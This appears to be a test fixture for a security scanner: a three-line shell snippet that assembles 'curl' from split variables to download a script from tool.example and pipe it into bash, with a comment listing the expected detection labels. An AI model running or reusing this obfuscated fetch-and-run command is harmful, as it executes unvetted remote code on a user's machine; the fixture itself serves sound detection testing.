u=https://tool.example
c=cu; r=rl
bash <($c$r -s "$u/i") # expect: malicious-command/pipe-to-shell, malicious-command/obfuscated-api-access
